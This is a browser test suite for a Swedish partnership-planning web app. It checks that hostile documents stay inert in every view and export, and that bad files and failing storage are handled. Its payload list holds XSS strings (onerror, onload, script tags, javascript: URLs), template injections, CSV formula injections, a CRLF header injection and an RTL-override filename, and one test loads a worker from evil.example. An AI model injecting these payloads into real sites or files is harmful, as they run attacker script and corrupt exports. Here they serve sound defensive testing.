// A hostile document passes every view and every export as text: nothing runs,
// nothing is loaded, nothing breaks the page. And a device that keeps nothing.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { browser, serve, top } from './browser.mjs';
import { goTo, h1, openAll, owns, shows } from './room.mjs';

const folder = mkdtempSync(join(tmpdir(), 'samverkan-hostile-'));
let server;
before(async () => { server = await serve(); });
after(async () => {
  await server?.stop();
  rmSync(folder, { recursive: true, force: true });
});

const RLO = '\u202e', ZWJ = '\u200d';
const nasty = [
  '<img src=x onerror="globalThis.pwned=1">', '"><svg onload=globalThis.pwned=1>', '</title><script>globalThis.pwned=1</script>',
  `javascript:globalThis.pwned=1//`, '=HYPERLINK("http://evil.example","x")', '+1+1', '@SUM(A1)', '-2+3', '\tcmd', 'first\r\nBCC: x\r\nsecond',
  `${RLO}gpj.exe${ZWJ}\u0000`.replace('\u0000', ''), '{{constructor.constructor("globalThis.pwned=1")()}}', '${globalThis.pwned=1}', '`|*_[a](javascript:globalThis.pwned=1)',
  '𝓢𝓪𝓶𝓿𝓮𝓻𝓴𝓪𝓷 🜨 ẍ̷̡', 'å'.repeat(2000), 'W'.repeat(2000), '\u2028\u2029\ufeff x',
];
const both = (s) => ({ sv: s, en: s });

/** The worked example with nasty texts in every place that holds a text, and long names everywhere. */
const hostile = () => {
  const d = JSON.parse(readFileSync(join(top, 'examples/dropin/dropin.json'), 'utf8'));
  let i = 0;
  const next = () => nasty[i++ % nasty.length];
  const walk = (v) => {
    if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object') {
      for (const [k, inner] of Object.entries(v)) {
        if (inner && typeof inner === 'object' && typeof inner.sv === 'string') v[k] = both(next());
        else walk(inner);
      }
    }
  };
  walk(d);
  d.people.forEach((p) => { p.name = next().slice(0, 200); });
  return d;
};

const open = async (context, file) => {
  const page = await context.newPage();
  const wrong = [];
  page.on('pageerror', (e) => wrong.push(e.message));
  page.on('console', (m) => { if (['error', 'warning'].includes(m.type())) wrong.push(m.text()); });
  page.on('dialog', (d) => { wrong.push(d.message()); d.dismiss(); });
  page.on('request', (r) => { if (!r.url().startsWith(server.url) && !r.url().startsWith('blob:')) wrong.push(r.url()); });
  await page.addInitScript(() => addEventListener('securitypolicyviolation', (e) => console.error(`CSP: ${e.violatedDirective} ${e.blockedURI}`)));
  await page.goto(server.url);
  await page.waitForFunction(() => document.documentElement.dataset.ready === 'true');
  if (file) {
    await page.locator('input[type=file]').first().setInputFiles(file);
    await owns(page);
    await page.getByRole('button', { name: 'Ändra dag och fas' }).click();
    await page.getByLabel('Besked per').fill('2026-03-12');
    await shows(page.locator('#main .kick'), /12 mars 2026/);
    assert.match(await h1(page), /^Håller inte än/);
  }
  return { page, wrong };
};

describe('a hostile document', { concurrency: 1 }, () => {
  const file = join(folder, 'hostile.json');
  before(() => writeFileSync(file, JSON.stringify(hostile())));

  for (const width of [1280, 360]) {
    test(`every view is inert at ${width} px`, async () => {
      const context = await browser({ viewport: { width, height: 800 }, bypassCSP: false });
      const { page, wrong } = await open(context, file);
      for (const lang of ['sv', 'en']) {
        if (lang === 'en') await page.getByRole('button', { name: /in English/ }).click();
        for (const view of ['besked', 'faktorer', 'parter', 'besked?varfor=P08', 'besked?varfor=bitar', 'besked?varfor=P07', 'faktorer?varfor=P05', 'nytt']) {
          if (view === 'nytt') await page.evaluate(() => { location.hash = 'nytt'; });
          else await goTo(page, view);
          await openAll(page, 'details');
          const bad = await page.evaluate(() => ({
            pwned: globalThis.pwned, scripts: [...document.querySelectorAll('script')].filter((s) => !s.src).length,
            handlers: document.querySelectorAll('[onerror],[onload],[onclick]').length, images: document.querySelectorAll('img').length,
            links: [...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')).filter((h) => !/^(#|\.|https:|mailto:|v1\/|(index|dialog|validering|analys)\.html$)/.test(h)),
            wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
          }));
          assert.deepEqual(bad, { pwned: undefined, scripts: 0, handlers: 0, images: 0, links: [], wide: 0 }, `${view} ${lang}`);
        }
      }
      await goTo(page, 'parter');
      const shown = await page.locator('main').innerText();
      assert.ok(shown.includes('<img src=x onerror="globalThis.pwned=1">') || shown.includes('"><svg onload'), 'the text is shown as it is');
      assert.deepEqual(wrong, []);
      await context.close();
    });
  }

  test('every export is inert', async () => {
    const context = await browser({ viewport: { width: 1280, height: 800 } });
    const { page, wrong } = await open(context, file);
    for (const label of ['Spara rapporten som text', 'Spara rapporten som tabell']) {
      if (!(await page.getByText(label, { exact: true }).first().isVisible())) await page.locator('summary', { hasText: 'Mer' }).click();
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByText(label, { exact: true }).first().click()]);
      assert.match(download.suggestedFilename(), /^[^/\\<>:"|?*\u0000-\u001f]{1,120}\.(md|csv)$/);
      const at = join(folder, 'out');
      await download.saveAs(at);
      const text = readFileSync(at, 'utf8');
      if (!label.endsWith('tabell')) assert.doesNotMatch(text, /(?<!\\)<(script|img|svg)/, 'markup is escaped');
      if (label.endsWith('tabell')) assert.doesNotMatch(text, /(^|[;,"])[=@+]/m, 'no cell is a formula');
    }
    const [saved] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Control+s')]);
    assert.match(saved.suggestedFilename(), /^[^/\\<>:"|?*\u0000-\u001f]{1,120}\.json$/);
    const at = join(folder, 'again.json');
    await saved.saveAs(at);
    assert.deepEqual(JSON.parse(readFileSync(at, 'utf8')).organizations[0].name, hostile().organizations[0].name);

    await page.evaluate(() => { window.print = () => { globalThis.printed = true; }; });
    await page.getByRole('button', { name: 'Skriv ut' }).click();
    await page.waitForFunction(() => globalThis.printed);
    await page.emulateMedia({ media: 'print' });
    await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
    await page.pdf({ path: join(folder, 'out.pdf'), format: 'A4' });
    assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
    assert.deepEqual(wrong, []);
    await context.close();
  });
});

test('the browser itself refuses to parse a text as markup', async () => {
  const context = await browser({ viewport: { width: 1280, height: 800 } });
  const { page } = await open(context);
  const refused = await page.evaluate(() => [
    () => { document.querySelector('main').innerHTML = '<b>x</b>'; },
    () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    () => new Worker('https://evil.example/worker.js'),
    () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
  ].map((act) => { try { act(); return 'allowed'; } catch (error) { return error.name; } }));
  assert.deepEqual(refused, ['TypeError', 'TypeError', 'TypeError', 'TypeError']);
  await context.close();
});

describe('files that are no document', { concurrency: 1 }, () => {
  const S = 'https://github.com/samverkan/samverkan/schemas/partnership/';
  for (const [name, text, says] of [
    ['nothing', '', /tomt/],
    ['not JSON', 'hej', /Här står ”hej/],
    ['a newer version', JSON.stringify({ $schema: `${S}2` }), /version 2/],
    ['nested', '['.repeat(100_000), /nivåer/],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff, 0xfe]), /./],
    ['a name of 10 kB', JSON.stringify({ $schema: `${S}1`, name: both('<b>'.repeat(3334)), organizations: [{ id: 'a', name: both('W'.repeat(10_000)), standing: [] }] }), /högst 2\s?000/],
    ['too large', ' '.repeat(9.5 * 2 ** 20), /MB|byte/],
  ]) {
    test(name, async () => {
      const context = await browser({ viewport: { width: 1280, height: 800 } });
      const { page, wrong } = await open(context);
      const file = join(folder, 'bad.json');
      writeFileSync(file, text);
      await page.locator('input[type=file]').first().setInputFiles(file);
      const box = page.getByText('Det dokument du hade är kvar.').first();
      await box.waitFor();
      assert.match(await page.locator('main').innerText().then(async (m) => m + await page.locator('body').innerText()), says);
      assert.match(await page.locator('#main h1').innerText(), /Två\s+saker/, 'what was there is still there');
      assert.deepEqual(wrong, []);
      await context.close();
    });
  }
});

describe('a device that keeps nothing', { concurrency: 1 }, () => {
  for (const [name, script, says] of [
    ['full', () => {
      const put = IDBObjectStore.prototype.put;
      IDBObjectStore.prototype.put = function () { void put; throw new DOMException('full', 'QuotaExceededError'); };
    }, /Inte sparat: enheten är full/],
    ['refused', () => { Object.defineProperty(globalThis, 'indexedDB', { get() { throw new DOMException('no', 'SecurityError'); } }); }, /Inte sparat/],
  ]) {
    test(`storage ${name}`, async () => {
      const context = await browser({ viewport: { width: 1280, height: 800 } });
      const page = await context.newPage();
      await page.addInitScript(script);
      await page.goto(server.url);
      await page.waitForFunction(() => document.documentElement.dataset.ready === 'true');
      await page.getByLabel('Läge för Arbetsmarknadskontoret i länet').selectOption('active');
      await page.waitForFunction((s) => new RegExp(s).test(document.body.innerText), says.source);
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByText('Spara som fil').first().click()]);
      await download.saveAs(join(folder, 'kept.json'));
      assert.match(readFileSync(join(folder, 'kept.json'), 'utf8'), /"active"/);
      await context.close();
    });
  }
});
